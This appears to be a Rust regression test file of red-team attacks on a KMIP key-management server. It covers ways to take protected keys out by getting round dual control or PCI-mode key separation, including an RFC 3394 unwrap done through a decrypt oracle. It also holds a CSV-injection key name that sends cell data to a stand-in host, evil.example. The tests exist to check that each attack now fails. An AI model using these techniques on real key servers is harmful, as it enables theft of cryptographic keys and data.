//! Red-team round 3: attacks by ordinary (non-administrator) clients and ordinary operator
//! mistakes on what was added last (dual control for every operation, PCI mode, the mirror's
//! fork rule). Each test is an attack that worked, kept as a regression test; the ones left
//! `#[ignore]` are design questions, described in their reason.

use crate::support::cluster::{eventually, Cluster, Node, Options};
use crate::support::kmip::{
    aes_attrs, create_payload, filters, get_attrs, name, register_key_payload, uid, uid_of, uids_of,
};
use crate::support::proxy::Fault;
use crate::support::server::TestServer;
use akm::client::{Client, ClientError};
use akm::kmip::attributes::Attr;
use akm::kmip::enums::{
    block_cipher_mode as bcm, cryptographic_usage_mask as usage, encoding_option, link_type,
    operation as op, state, wrapping_method,
};
use akm::kmip::ProtocolVersion as V;
use akm::policy::{AccessMode, Operations, Settings};
use akm::ttlv::{Tag, Ttlv, Value};
use std::time::Duration;

fn link(kind: u32, target: &str) -> Attr {
    Attr::new(
        "Link",
        Value::Structure(vec![
            Ttlv::enumeration(Tag::LINK_TYPE, kind),
            Ttlv::text(Tag::LINKED_OBJECT_IDENTIFIER, target),
        ]),
    )
}

async fn create(c: &mut Client, name: &str, extra: Vec<Attr>) -> String {
    let mut attrs = aes_attrs(Some(name));
    attrs.extend(extra);
    uid_of(
        &c.call(op::CREATE, create_payload(c.version, &attrs))
            .await
            .unwrap(),
    )
}

async fn locate(c: &mut Client, n: &str) -> Vec<String> {
    let got = c
        .call(
            op::LOCATE,
            filters(c.version, &[Attr::new("Name", name(n))]),
        )
        .await
        .unwrap();
    uids_of(&got)
}

fn wait_connected(c: &Cluster) {
    assert!(eventually(Duration::from_secs(15), || {
        c.nodes.iter().all(|n| {
            n.status().is_some_and(|s| {
                s.peers
                    .iter()
                    .all(|p| p.outbound_connected && p.inbound_connected)
            })
        })
    }));
}

fn holds(c: &Cluster, uids: &[&str]) -> bool {
    c.nodes.iter().all(|n| {
        let o = n.objects();
        uids.iter().all(|u| o.contains_key(*u))
    })
}

fn state_on(node: &Node, uid: &str) -> Option<u32> {
    node.objects().get(uid).map(|row| row.0)
}

/// An ordinary user's links cannot reach into another user's version chain: mallory links
/// her own keys (Replaced Object) to bob's rotated key and to its predecessor and makes a
/// name conflict of her own across a partition; the mirror's fork rule must resolve her
/// conflict among her own keys only and never deactivate or relink bob's key.
///
/// Before the fix the rule walked Replaced Object links into bob's chain, took bob's key as
/// the first version of a "losing branch" of mallory's fork and deactivated it on every node,
/// linking it forward to mallory's key.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_link_to_another_users_key_cannot_make_the_fork_rule_retire_it() {
    let c = Cluster::start(Options::nodes(2));
    wait_connected(&c);
    let mut bob = c.client_as(0, "bob").await;
    let mut mallory0 = c.client_as(0, "mallory").await;
    let mut mallory1 = c.client_as(1, "mallory").await;

    // bob's key and, a moment later, its next version.
    let p = create(&mut bob, "bob-payments", vec![]).await;
    bob.call(op::ACTIVATE, uid(&p)).await.unwrap();
    // mallory's own old key, "replacing" bob's first version (no check on link targets).
    let m = create(
        &mut mallory0,
        "mallory-old",
        vec![link(link_type::REPLACED_OBJECT_LINK, &p)],
    )
    .await;
    tokio::time::sleep(Duration::from_millis(1100)).await;
    let x = uid_of(&bob.call(op::RE_KEY, uid(&p)).await.unwrap());
    assert!(eventually(Duration::from_secs(15), || {
        holds(&c, &[&p, &m, &x])
            && c.nodes
                .iter()
                .all(|n| state_on(n, &x) == Some(state::ACTIVE))
    }));

    // A partition: mallory makes one name on both sides, one copy "replacing" bob's key.
    c.link(0, 1, Fault::Cut);
    let a1 = create(
        &mut mallory0,
        "m",
        vec![link(link_type::REPLACED_OBJECT_LINK, &m)],
    )
    .await;
    let a2 = create(
        &mut mallory1,
        "m",
        vec![link(link_type::REPLACED_OBJECT_LINK, &x)],
    )
    .await;
    c.link(0, 1, Fault::Pass);
    assert!(eventually(Duration::from_secs(15), || holds(
        &c,
        &[&a1, &a2]
    )));
    // The rule has run on both nodes once mallory's conflict is resolved (one "m" left).
    let mut resolved = false;
    for _ in 0..200 {
        if locate(&mut mallory0, "m").await.len() == 1
            && locate(&mut mallory1, "m").await.len() == 1
        {
            resolved = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(resolved, "mallory's own name conflict was not resolved");
    tokio::time::sleep(Duration::from_secs(2)).await;

    for n in &c.nodes {
        assert_eq!(
            state_on(n, &x),
            Some(state::ACTIVE),
            "bob's key was retired on {} by mallory's links",
            n.id
        );
    }
    let attrs = get_attrs(&mut bob, &x, &["State", "Link", "Rotate Latest"]).await;
    let forward = attrs.iter().any(|a| {
        a.name == "Link"
            && matches!(&a.value, Value::Structure(f)
                if f.iter().any(|t| t.as_enum() == Some(link_type::REPLACEMENT_OBJECT_LINK)))
    });
    assert!(
        !forward,
        "bob's key was linked forward by the rule: {attrs:?}"
    );
    let p_attrs = get_attrs(&mut bob, &p, &["Link"]).await;
    let to_x = p_attrs.iter().any(|a| {
        matches!(&a.value, Value::Structure(f)
            if f.iter().any(|t| t.as_text() == Some(x.as_str())))
    });
    assert!(
        to_x,
        "bob's first version no longer links to his: {p_attrs:?}"
    );
}

fn wrap_spec(kek: &str) -> Ttlv {
    Ttlv::structure(
        Tag::KEY_WRAPPING_SPECIFICATION,
        vec![
            Ttlv::enumeration(Tag::WRAPPING_METHOD, wrapping_method::ENCRYPT),
            Ttlv::structure(
                Tag::ENCRYPTION_KEY_INFORMATION,
                vec![Ttlv::text(Tag::UNIQUE_IDENTIFIER, kek)],
            ),
            Ttlv::enumeration(Tag::ENCODING_OPTION, encoding_option::NO_ENCODING),
        ],
    )
}

/// Dual control over `export` is meant to keep one person from taking a key's material out
/// alone. A user registers a wrapping key whose bytes she typed in (Register is not guarded
/// unless `create` is), then Gets the guarded key wrapped under it (a wrapped Get is never
/// guarded) and unwraps it at home: the clear key, with no second person.
///
/// Left ignored: whether a wrapped Get should be guarded when the caller knows the wrapping
/// key (registered in the clear, or an RSA public key whose private half is not on the
/// server — the same hole exists in PCI mode, which allows Register of public keys) is a
/// design decision: e.g. guard a wrapped Get under `export` unless the wrapping key was
/// generated on the server, or make `export` imply `create` for wrapping-capable keys.
#[tokio::test]
async fn export_under_dual_control_cannot_be_dodged_by_wrapping_under_a_known_key() {
    let server = TestServer::start_with_access_and_dual(
        Settings {
            admin_group: "admins".into(),
            unknown: Some(Operations::all()),
            hide_existence: false,
            default_mode: AccessMode::User,
        },
        akm::ops::dual::DualControl::new(vec!["export".into()], 15),
    )
    .await;
    let mut alice = server
        .connect(server.client_tls("alice", &["users"]), V::V2_1)
        .await
        .unwrap();
    let key = uid_of(
        &alice
            .call(op::CREATE, create_payload(V::V2_1, &aes_attrs(Some("k"))))
            .await
            .unwrap(),
    );
    // Clear Get is guarded.
    assert!(alice.call(op::GET, uid(&key)).await.is_err());
    // A wrapping key alice knows.
    let known = [0x42u8; 32];
    let attrs = vec![Attr::new(
        "Cryptographic Usage Mask",
        Value::Integer(usage::WRAP_KEY | usage::UNWRAP_KEY),
    )];
    let w = uid_of(
        &alice
            .call(op::REGISTER, register_key_payload(V::V2_1, &known, &attrs))
            .await
            .unwrap(),
    );
    alice.call(op::ACTIVATE, uid(&w)).await.unwrap();
    let mut req = uid(&key);
    req.push(wrap_spec(&w));
    let got = alice.call(op::GET, req).await;
    match got {
        Err(ClientError::Failed { message, .. }) => {
            assert!(message.contains("dual control"), "{message}")
        }
        other => panic!("alice took the key out alone, wrapped under her own key: {other:?}"),
    }
}

/// A client that sets a tiny Maximum Response Size makes a change the journal never named:
/// the Create ran and committed a new key, but the client was answered Response Too Large and
/// the record said only "Create failed", with no object (a new key's uid is only in the
/// answer), and the audit ledger counted the change as recorded, so no recovery named it
/// either. The record must name the object and say the change was made.
#[tokio::test]
async fn a_change_answered_response_too_large_is_still_named_in_the_journal() {
    let server = TestServer::start().await;
    let mut c = server.client("mallory", V::V1_4).await;
    let mut msg = akm::client::request(
        V::V1_4,
        &[(
            op::CREATE,
            create_payload(V::V1_4, &aes_attrs(Some("unanswered"))),
        )],
    );
    if let Value::Structure(children) = &mut msg.value {
        if let Value::Structure(h) = &mut children[0].value {
            h.push(Ttlv::integer(Tag::MAXIMUM_RESPONSE_SIZE, 1));
        }
    }
    c.send(&msg).await.unwrap();
    // The key exists all the same.
    let made = locate(&mut c, "unanswered").await;
    assert_eq!(made.len(), 1, "the Create was committed");
    let journal = server.journal_path();
    let _dir = server.stop().await;
    let create = crate::audit::records(&journal)
        .into_iter()
        .find(|r| r.get("operation") == Some("Create"))
        .expect("the Create is recorded");
    assert_eq!(create.get("reason"), Some("ResponseTooLarge"));
    assert_eq!(
        create.get("uid"),
        Some(made[0].as_str()),
        "the record does not name the key the Create made: {create:?}"
    );
    assert!(
        create
            .get("detail")
            .is_some_and(|d| d.contains("committed")),
        "the record does not say the change was made: {create:?}"
    );
}

/// Decrypt of one 16-byte block under `key` in ECB (no padding): an AES decryption oracle.
async fn aes_decrypt_block(c: &mut Client, key: &str, block: &[u8]) -> Result<Vec<u8>, String> {
    let mut req = uid(key);
    req.push(Ttlv::structure(
        Tag::CRYPTOGRAPHIC_PARAMETERS,
        vec![Ttlv::enumeration(Tag::BLOCK_CIPHER_MODE, bcm::ECB)],
    ));
    req.push(Ttlv::bytes(Tag::DATA, block.to_vec()));
    let got = c.call(op::DECRYPT, req).await.map_err(|e| e.to_string())?;
    Ok(got
        .child(Tag::DATA)
        .and_then(Ttlv::as_bytes)
        .unwrap()
        .to_vec())
}

/// PCI mode keeps symmetric keys from leaving in the clear, but allows a Get wrapped under a
/// wrapping key on the server. An ordinary user creates her own AES key for both wrapping
/// and encryption (Wrap Key, Unwrap Key, Encrypt, Decrypt), Gets the protected key wrapped
/// under it (RFC 3394), then undoes RFC 3394 one block at a time with Decrypt in ECB mode
/// under the same key: 24 Decrypts give the clear key. PCI mode must keep a key-wrapping key
/// from being used as a data key (key separation): one of the two must be refused.
#[tokio::test]
async fn pci_mode_keeps_a_wrapping_key_from_decrypting_its_own_wrappings() {
    let server = TestServer::start_with_policy(akm::ops::CryptoPolicy { pci_mode: true }).await;
    let mut c = server.client("mallory", V::V2_1).await;
    let card = uid_of(
        &c.call(
            op::CREATE,
            create_payload(V::V2_1, &aes_attrs(Some("card-data"))),
        )
        .await
        .unwrap(),
    );
    assert!(
        c.call(op::GET, uid(&card)).await.is_err(),
        "PCI: no clear Get"
    );
    let mut attrs = aes_attrs(Some("both-ways"));
    attrs.retain(|a| a.name != "Cryptographic Usage Mask");
    attrs.push(Attr::new(
        "Cryptographic Usage Mask",
        Value::Integer(usage::WRAP_KEY | usage::UNWRAP_KEY | usage::ENCRYPT | usage::DECRYPT),
    ));
    let w = uid_of(
        &c.call(op::CREATE, create_payload(V::V2_1, &attrs))
            .await
            .unwrap(),
    );
    c.call(op::ACTIVATE, uid(&w)).await.unwrap();
    let mut req = uid(&card);
    req.push(wrap_spec(&w));
    let Ok(got) = c.call(op::GET, req).await else {
        return; // refused: a wrapping key that also decrypts does not wrap
    };
    let wrapped = got
        .child(Tag::SYMMETRIC_KEY)
        .and_then(|k| k.child(Tag::KEY_BLOCK))
        .and_then(|b| b.child(Tag::KEY_VALUE))
        .and_then(Ttlv::as_bytes)
        .unwrap()
        .to_vec();
    // RFC 3394 §2.2.2 unwrap, each AES decryption asked of the server.
    let n = wrapped.len() / 8 - 1;
    let mut a: [u8; 8] = wrapped[..8].try_into().unwrap();
    let mut r: Vec<[u8; 8]> = (1..=n)
        .map(|i| wrapped[i * 8..i * 8 + 8].try_into().unwrap())
        .collect();
    for j in (0..6).rev() {
        for i in (1..=n).rev() {
            let t = ((n * j + i) as u64).to_be_bytes();
            let mut block = Vec::with_capacity(16);
            block.extend(a.iter().zip(t).map(|(x, y)| x ^ y));
            block.extend(r[i - 1]);
            let Ok(b) = aes_decrypt_block(&mut c, &w, &block).await else {
                return; // refused: a wrapping key does not decrypt data
            };
            a = b[..8].try_into().unwrap();
            r[i - 1] = b[8..].try_into().unwrap();
        }
    }
    assert_ne!(
        a, [0xA6; 8],
        "mallory recovered the clear card-data key in PCI mode"
    );
}

fn derive_payload(base: &str, method: u32, params: Vec<Ttlv>) -> Vec<Ttlv> {
    use akm::kmip::enums::{cryptographic_algorithm as alg, object_type as ot};
    vec![
        Ttlv::enumeration(Tag::OBJECT_TYPE, ot::SYMMETRIC_KEY),
        Ttlv::text(Tag::UNIQUE_IDENTIFIER, base),
        Ttlv::enumeration(Tag::DERIVATION_METHOD, method),
        Ttlv::structure(Tag::DERIVATION_PARAMETERS, params),
        crate::support::kmip::template(
            V::V2_1,
            &[
                Attr::new("Cryptographic Algorithm", Value::Enumeration(alg::AES)),
                Attr::new("Cryptographic Length", Value::Integer(256)),
                Attr::new(
                    "Cryptographic Usage Mask",
                    Value::Integer(usage::WRAP_KEY | usage::UNWRAP_KEY),
                ),
            ],
        ),
    ]
}

/// Exports `card` wrapped under `w` and unwraps it with `known`, if the server lets it.
async fn exported_under(c: &mut Client, card: &str, w: &str, known: &[u8]) -> Option<Vec<u8>> {
    c.call(op::ACTIVATE, uid(w)).await.ok()?;
    let mut req = uid(card);
    req.push(wrap_spec(w));
    let got = c.call(op::GET, req).await.ok()?;
    let wrapped = got
        .child(Tag::SYMMETRIC_KEY)?
        .child(Tag::KEY_BLOCK)?
        .child(Tag::KEY_VALUE)?
        .as_bytes()?
        .to_vec();
    akm::crypto::keywrap::unwrap(known, &wrapped)
        .ok()
        .map(|k| k.to_vec())
}

/// PCI mode refuses to register a symmetric key in the clear, but Derive Key made one all
/// the same: the HASH method over the client's Derivation Data ignores the base key (the
/// new key is SHA-256 of bytes the client chose), and any method over Secret Data (which
/// PCI mode takes in the clear) gives a key the client can compute. Either key, made a
/// wrapping key, takes any protected key out: wrapped under a key the client knows.
#[tokio::test]
async fn pci_mode_derives_no_symmetric_key_the_client_can_compute() {
    use akm::kmip::enums::{derivation_method as dm, hashing_algorithm as ha, object_type as ot};
    let server = TestServer::start_with_policy(akm::ops::CryptoPolicy { pci_mode: true }).await;
    let mut c = server.client("mallory", V::V2_1).await;
    let card = uid_of(
        &c.call(
            op::CREATE,
            create_payload(V::V2_1, &aes_attrs(Some("card"))),
        )
        .await
        .unwrap(),
    );
    let base_attrs = |n: &str| {
        let mut a = aes_attrs(Some(n));
        a.retain(|a| a.name != "Cryptographic Usage Mask");
        a.push(Attr::new(
            "Cryptographic Usage Mask",
            Value::Integer(usage::DERIVE_KEY),
        ));
        a
    };
    let base = uid_of(
        &c.call(op::CREATE, create_payload(V::V2_1, &base_attrs("base")))
            .await
            .unwrap(),
    );
    c.call(op::ACTIVATE, uid(&base)).await.unwrap();
    let sha = Ttlv::structure(
        Tag::CRYPTOGRAPHIC_PARAMETERS,
        vec![Ttlv::enumeration(Tag::HASHING_ALGORITHM, ha::SHA_256)],
    );
    let hashed = c
        .call(
            op::DERIVE_KEY,
            derive_payload(
                &base,
                dm::HASH,
                vec![
                    sha.clone(),
                    Ttlv::bytes(Tag::DERIVATION_DATA, b"known".to_vec()),
                ],
            ),
        )
        .await;
    if let Ok(got) = hashed {
        let known = akm::crypto::digest::hash(ha::SHA_256, b"known").unwrap();
        let out = exported_under(&mut c, &card, &uid_of(&got), &known).await;
        assert!(
            out.is_none(),
            "HASH-derived key exported the card key in PCI mode"
        );
    }
    // Secret Data in the clear as the base.
    let secret = vec![
        Ttlv::enumeration(Tag::OBJECT_TYPE, ot::SECRET_DATA),
        crate::support::kmip::template(
            V::V2_1,
            &[Attr::new(
                "Cryptographic Usage Mask",
                Value::Integer(usage::DERIVE_KEY),
            )],
        ),
        Ttlv::structure(
            Tag::SECRET_DATA,
            vec![
                Ttlv::enumeration(Tag::SECRET_DATA_TYPE, 1),
                Ttlv::structure(
                    Tag::KEY_BLOCK,
                    vec![
                        Ttlv::enumeration(
                            Tag::KEY_FORMAT_TYPE,
                            akm::kmip::enums::key_format_type::OPAQUE,
                        ),
                        Ttlv::structure(
                            Tag::KEY_VALUE,
                            vec![Ttlv::bytes(Tag::KEY_MATERIAL, b"typed-in".to_vec())],
                        ),
                    ],
                ),
            ],
        ),
    ];
    let s = uid_of(&c.call(op::REGISTER, secret).await.unwrap());
    c.call(op::ACTIVATE, uid(&s)).await.unwrap();
    let from_secret = c
        .call(
            op::DERIVE_KEY,
            derive_payload(
                &s,
                dm::HKDF,
                vec![sha, Ttlv::bytes(Tag::DERIVATION_DATA, b"info".to_vec())],
            ),
        )
        .await;
    if let Ok(got) = from_secret {
        let known = akm::crypto::kdf::hkdf(ha::SHA_256, &[], b"typed-in", b"info", 32).unwrap();
        let out = exported_under(&mut c, &card, &uid_of(&got), &known).await;
        assert!(
            out.is_none(),
            "a key derived from clear Secret Data exported the card key in PCI mode"
        );
    }
}

/// The key-separation attack across an RSA pair in PCI mode: the public key only wraps, the
/// private key only decrypts, so neither key mixes purposes alone; a protected key Got
/// wrapped (RSA-OAEP) under the public key comes out in the clear from Decrypt (RSA-OAEP)
/// with the private key. The pair's masks are fixed at creation, so Create Key Pair must
/// refuse them in PCI mode.
#[tokio::test]
async fn pci_mode_keeps_an_rsa_pair_from_unwrapping_by_decrypt() {
    use akm::kmip::enums::padding_method as pad;
    use akm::kmip::enums::{cryptographic_algorithm as alg, hashing_algorithm as ha};
    let server = TestServer::start_with_policy(akm::ops::CryptoPolicy { pci_mode: true }).await;
    let mut c = server.client("mallory", V::V2_1).await;
    let card = uid_of(
        &c.call(
            op::CREATE,
            create_payload(V::V2_1, &aes_attrs(Some("card"))),
        )
        .await
        .unwrap(),
    );
    let list = |tag, attrs: &[Attr]| {
        Ttlv::structure(
            tag,
            crate::support::kmip::template(V::V2_1, attrs)
                .children()
                .to_vec(),
        )
    };
    let mask = |m| vec![Attr::new("Cryptographic Usage Mask", Value::Integer(m))];
    let payload = vec![
        list(
            Tag::COMMON_ATTRIBUTES,
            &[
                Attr::new("Cryptographic Algorithm", Value::Enumeration(alg::RSA)),
                Attr::new("Cryptographic Length", Value::Integer(2048)),
            ],
        ),
        list(Tag::PRIVATE_KEY_ATTRIBUTES, &mask(usage::DECRYPT)),
        list(Tag::PUBLIC_KEY_ATTRIBUTES, &mask(usage::WRAP_KEY)),
    ];
    let Ok(got) = c.call(op::CREATE_KEY_PAIR, payload).await else {
        return; // refused: the hole is closed
    };
    let text = |t| got.child(t).and_then(Ttlv::as_text).unwrap().to_owned();
    let (private, public) = (
        text(Tag::PRIVATE_KEY_UNIQUE_IDENTIFIER),
        text(Tag::PUBLIC_KEY_UNIQUE_IDENTIFIER),
    );
    for u in [&private, &public] {
        c.call(op::ACTIVATE, uid(u)).await.unwrap();
    }
    let oaep = Ttlv::structure(
        Tag::CRYPTOGRAPHIC_PARAMETERS,
        vec![
            Ttlv::enumeration(Tag::PADDING_METHOD, pad::OAEP),
            Ttlv::enumeration(Tag::HASHING_ALGORITHM, ha::SHA_256),
        ],
    );
    let mut req = uid(&card);
    req.push(Ttlv::structure(
        Tag::KEY_WRAPPING_SPECIFICATION,
        vec![
            Ttlv::enumeration(Tag::WRAPPING_METHOD, wrapping_method::ENCRYPT),
            Ttlv::structure(
                Tag::ENCRYPTION_KEY_INFORMATION,
                vec![Ttlv::text(Tag::UNIQUE_IDENTIFIER, &public), oaep.clone()],
            ),
            Ttlv::enumeration(Tag::ENCODING_OPTION, encoding_option::NO_ENCODING),
        ],
    ));
    let Ok(got) = c.call(op::GET, req).await else {
        return;
    };
    let wrapped = got
        .child(Tag::SYMMETRIC_KEY)
        .and_then(|k| k.child(Tag::KEY_BLOCK))
        .and_then(|b| b.child(Tag::KEY_VALUE))
        .and_then(Ttlv::as_bytes)
        .unwrap()
        .to_vec();
    let mut req = uid(&private);
    req.push(oaep);
    req.push(Ttlv::bytes(Tag::DATA, wrapped));
    if let Ok(got) = c.call(op::DECRYPT, req).await {
        let clear = got.child(Tag::DATA).and_then(Ttlv::as_bytes).unwrap();
        panic!(
            "mallory decrypted the {}-byte card key in PCI mode",
            clear.len()
        );
    }
}

/// `akm audit export --csv` is what an auditor opens in a spreadsheet. Any client names its
/// own keys, and the Name goes into each record: a key named `=HYPERLINK(...)` became a live
/// formula in the export. Cells a spreadsheet would run must be defused (as `akm report
/// keys` already does).
#[tokio::test]
async fn audit_csv_export_defuses_formulas_in_client_chosen_names() {
    let server = TestServer::start().await;
    let mut c = server.client("mallory", V::V1_4).await;
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    c.call(op::CREATE, create_payload(V::V1_4, &aes_attrs(Some(evil))))
        .await
        .unwrap();
    let journal = server.journal_path();
    let dir = server.stop().await;
    let out = std::process::Command::new(crate::cli::BIN)
        .args(["audit", "export", "--csv"])
        .arg(&journal)
        .current_dir(dir.path())
        .output()
        .unwrap();
    let csv = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(csv.contains("HYPERLINK"), "the name is exported: {csv}");
    for line in csv.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '@']),
                "a formula cell in the audit export: {line}"
            );
        }
    }
}
